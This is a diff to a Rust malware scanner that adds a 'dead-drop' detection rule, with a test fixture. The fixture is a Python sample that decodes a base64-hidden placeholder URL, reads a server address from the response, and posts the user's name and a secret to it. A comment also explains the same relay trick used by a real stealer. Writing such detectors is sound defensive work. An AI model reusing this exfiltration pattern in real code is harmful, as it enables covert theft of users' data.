@@ -150,6 +150,11 @@ pub const COMBINATIONS: &[Combination] = &[
         weight: 0.4,
     },
     Combination {
+        id: "combo:dead-drop",
+        description: "an address hidden by encoding is fetched and a request goes to an address read from a response, in the same file",
+        weight: 0.5,
+    },
+    Combination {
         id: "combo:stolen-to-endpoint",
         description: "stealer-target access and an exfiltration endpoint in the same file",
         weight: 0.5,
@@ -349,6 +354,18 @@ fn combination_evidence<'f>(
                 f.has_tag("net-fetch") && f.context != ExecContext::TestOrDocs
             })?;
             Some((fetch, start))
+        }
+        "combo:dead-drop" => {
+            // Cipherbcrypt: a zlib-hidden GitHub raw URL answers with `host:port:path`, and
+            // the user name and the caller's data are posted there. Clients name their API in
+            // plain text; a hidden pointer to a changeable address is how stealers stay up.
+            let relay = strongest(findings, |f| {
+                f.has_tag("address-from-response") && f.context != ExecContext::TestOrDocs
+            })?;
+            let hidden = strongest(findings, |f| {
+                f.has_tag("hidden-endpoint") && f.context != ExecContext::TestOrDocs
+            })?;
+            Some((hidden, relay))
         }
         "combo:stolen-to-endpoint" => {
             let steal = strongest(findings, |f| {
@@ -569,6 +586,19 @@ mod tests {
         let worker = "import subprocess, sys, requests\ndef fetch(url):\n    return requests.get(url).json()\ndef run(path):\n    subprocess.Popen([sys.executable, path])\n";
         let s = score("pkg/pkg/core.py", worker);
         assert!(!has(&s, "combo:fetched-second-stage"), "{s:?}");
+    }
+
+    #[test]
+    fn a_hidden_pointer_to_the_collection_server_is_a_dead_drop() {
+        let code = "import base64, getpass, requests\ndef report(secret):\n    where = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvY2ZnLnR4dA==').decode()\n    server = requests.get(where).text.strip()\n    requests.post(server, json={'u': getpass.getuser(), 's': secret})\n";
+        let s = score("pkg/pkg/core.py", code);
+        assert!(has(&s, "combo:dead-drop"), "{s:?}");
+        assert!(s.malware >= 0.7, "{s:?}");
+        // Following a `next` link in plain sight is pagination.
+        let paging = "import requests\ndef pages(url):\n    while url:\n        page = requests.get(url).json()\n        yield page\n        url = page['next']\n        requests.get(url)\n";
+        let s = score("pkg/pkg/core.py", paging);
+        assert!(!has(&s, "combo:dead-drop"), "{s:?}");
+        assert!(s.malware < 0.4, "{s:?}");
     }
 
     #[test]
